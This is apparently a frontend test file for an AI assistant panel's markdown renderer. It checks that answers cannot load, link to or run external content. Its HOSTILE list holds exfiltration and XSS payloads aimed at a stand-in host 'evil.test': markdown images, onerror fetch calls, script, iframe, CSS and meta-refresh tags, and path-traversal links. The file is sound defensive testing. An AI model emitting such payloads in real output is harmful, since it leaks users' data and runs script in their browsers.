import { cleanup, screen, waitFor, within } from '@testing-library/react';
import { describe, expect, it, vi } from 'vitest';
import { FakeEventSource } from '../../test/fake-event-source.ts';
import { mockAssistantMessage, mockAssistantSession, mockAssistantWorld } from '../../test/mock-assistant.ts';
import { idOf } from '../../test/mock-world.ts';
import { mockApi, renderPage } from '../../test/render-page.tsx';
import { until } from '../../test/until.ts';

mockApi();

const SESSION = mockAssistantSession();

/** Opens a conversation of these answers. */
async function openAnswers(contents: readonly string[]) {
  const stored = { open: true, scope: 'general', subject: null, sessionId: SESSION.id };
  sessionStorage.setItem('assistant:', JSON.stringify(stored));
  const messages = contents.map((content, index) => mockAssistantMessage({ id: idOf(index), content }));
  const page = renderPage('/dns', {
    assistant: { ...mockAssistantWorld(), sessions: [SESSION], messages: { [SESSION.id]: messages } },
  });
  const answers = await screen.findAllByRole('article', { name: 'Assistant' });
  // The parser is loaded with the first answer; what waits for it is shown as it is.
  await import('./prose.tsx');
  await until(() => FakeEventSource.of('assistant.reply'));
  return { ...page, answers };
}

async function openAnswer(content: string) {
  const { answers, ...page } = await openAnswers([content]);
  const [answer] = answers;
  if (!answer) throw new Error('There is no answer');
  return { ...page, answer };
}

const ELSEWHERE = 'https://evil.test/steal?q=secret';

const HOSTILE = [
  `![x](${ELSEWHERE})`,
  `![x][1]\n[1]: ${ELSEWHERE}`,
  `[![x](${ELSEWHERE})](${ELSEWHERE})`,
  `[click](${ELSEWHERE})`,
  `[click](<${ELSEWHERE}> "title")`,
  `[click][1]\n[1]: ${ELSEWHERE}`,
  `<${ELSEWHERE}>`,
  ELSEWHERE,
  'www.evil.test/steal',
  'someone@evil.test',
  'Call <tel:0123456789>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](//evil.test/steal)',
  '[x](/\\evil.test/steal)',
  '[x](/\t/evil.test)',
  '[out](/api/logout)',
  '[out](/dns/../api/logout)',
  '[out](/dns/%2e%2e/api/logout)',
  `<img src="${ELSEWHERE}">`,
  `<img src=x onerror="fetch('${ELSEWHERE}')">`,
  `<script src="${ELSEWHERE}"></script>`,
  `<script>fetch('${ELSEWHERE}')</script>`,
  `<iframe src="${ELSEWHERE}"></iframe>`,
  `<svg><image href="${ELSEWHERE}"/></svg>`,
  `<a href="${ELSEWHERE}" ping="${ELSEWHERE}">x</a>`,
  `<form action="${ELSEWHERE}"><input name=a></form>`,
  `<style>@import url(${ELSEWHERE})</style>`,
  `<div style="background:url(${ELSEWHERE})">x</div>`,
  `<link rel=stylesheet href="${ELSEWHERE}">`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<video poster="${ELSEWHERE}"></video>`,
  `&lt;img src="${ELSEWHERE}"&gt;`,
  `| a |\n| - |\n| ![x](${ELSEWHERE}) |`,
  `- [ ] ![x](${ELSEWHERE})`,
  `note[^1]\n\n[^1]: ![x](${ELSEWHERE})`,
  `> # ![x](${ELSEWHERE})`,
];

/** Elements of an answer that could lead, send or load anywhere, or run anything. */
const DANGEROUS =
  'a,img,script,iframe,object,embed,link,meta,style,form,input,video,audio,source,base,image,[src],[href],[srcset],[style],[action],[ping],[poster]';

function dangerIn(answer: HTMLElement): string[] {
  const elements = [...answer.querySelectorAll(DANGEROUS)];
  return elements
    .filter((element) => !(element.tagName === 'svg' || element.closest('svg.lucide')))
    .map((element) => element.outerHTML);
}

describe('a hostile answer', () => {
  it('leads, loads and runs nothing', async () => {
    const { answer } = await openAnswer(`${HOSTILE.join('\n\n')}\n\n**laid out**`);
    await waitFor(() => expect(within(answer).getByText('laid out').tagName).toBe('STRONG'));
    expect(dangerIn(answer)).toEqual([]);
  });

  it('does so whichever it is', async () => {
    const { answers } = await openAnswers(HOSTILE.map((content) => `${content}\n\n**laid out**`));
    expect(answers).toHaveLength(HOSTILE.length);
    for (const [index, answer] of answers.entries()) {
      const content = HOSTILE[index];
      await waitFor(() => expect(within(answer).getByText('laid out').tagName, content).toBe('STRONG'));
      expect(dangerIn(answer), content).toEqual([]);
    }
  });

  it('shows where it would lead', async () => {
    const { answer } = await openAnswer(`[my bank](${ELSEWHERE}) and ![a chart](${ELSEWHERE}) **laid out**`);
    await waitFor(() => expect(answer.textContent).toContain(`my bank (${ELSEWHERE})`));
    expect(answer.textContent).toContain(`[a chart] (${ELSEWHERE})`);
    cleanup();
    const plain = await openAnswer(`See ${ELSEWHERE} or www.evil.test. **laid out**`);
    await waitFor(() => expect(plain.answer.textContent).toBe(`See ${ELSEWHERE} or www.evil.test. laid out`));
  });

  it.each([
    ['nested beyond all bounds', `${'>'.repeat(8000)} deep`],
    ['as long as it is hard to parse', '*a_'.repeat(21_000)],
  ])('that is %s is shown as it is', async (_, content) => {
    vi.spyOn(console, 'error').mockImplementation(() => {});
    const { answer } = await openAnswer(content);
    expect(answer.textContent).toBe(content);
    expect(screen.getByRole('textbox', { name: 'Message' })).toBeDefined();
  });
});

describe('an answer', () => {
  it('is laid out: headings, lists, tables and words', async () => {
    const { answer } = await openAnswer(
      '## Projects\n\n1. **shop** runs\n2. `blog` ~~runs~~\n\n| name | state |\n| :- | -: |\n| shop | running |\n\n- [x] done',
    );
    await waitFor(() => expect(within(answer).getByRole('heading', { name: 'Projects' })).toBeDefined());
    expect(within(answer).getAllByRole('listitem')).toHaveLength(3);
    expect(within(answer).getByRole('cell', { name: 'running' })).toBeDefined();
    expect(within(answer).getByText('blog').tagName).toBe('CODE');
    expect(answer.textContent).toContain('☑ done');
    expect(within(answer).getByRole('cell', { name: 'running' }).className).toContain('text-right');
  });

  it('is copied as it was written', async () => {
    const { answer, user } = await openAnswer('You have **one** project.');
    await user.click(within(answer).getByRole('button', { name: 'Copy answer' }));
    expect(await navigator.clipboard.readText()).toBe('You have **one** project.');
  });

  it('links to pages of the console alone, and goes there beside the panel', async () => {
    const { answer, user, router } = await openAnswer('Look at [your images](/containers?new=1#x).');
    const link = await within(answer).findByRole('link', { name: 'your images' });
    expect(link.getAttribute('href')).toBe('/containers');
    await user.click(link);
    await waitFor(() => expect(router.state.location.pathname).toBe('/containers'));
    expect(screen.getByRole('complementary', { name: 'AI Assistant' })).toBeDefined();
  });

  it('has code to copy, and files to download under their own name', async () => {
    const saved = Promise.withResolvers<Blob>();
    vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => {
      if (blob instanceof Blob) saved.resolve(blob);
      return 'blob:saved';
    });
    const names: string[] = [];
    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
      names.push(this.download);
    });
    const yaml = 'kind: Service\nmetadata:\n  name: nginx\n';
    const { answer, user } = await openAnswer(
      `Save it:\n\`\`\`yaml\n${yaml}\`\`\`\n\n1. then\n\n   \`\`\`sh\n   kubectl apply -f nginx.yaml\n   \`\`\`\n\n\`\`\`\nsome output\n\`\`\``,
    );
    await user.click(within(answer).getByRole('button', { name: 'Download nginx.yaml' }));
    expect(names).toEqual(['nginx.yaml']);
    expect(await (await saved.promise).text()).toBe(yaml);
    await user.click(await within(answer).findByRole('button', { name: 'Copy sh' }));
    expect(await navigator.clipboard.readText()).toBe('kubectl apply -f nginx.yaml');
    expect(within(answer).getByRole('group', { name: 'text' }).textContent).toBe('some output');
    expect(within(answer).getAllByRole('button', { name: /^Download/ })).toHaveLength(2);
  });
});
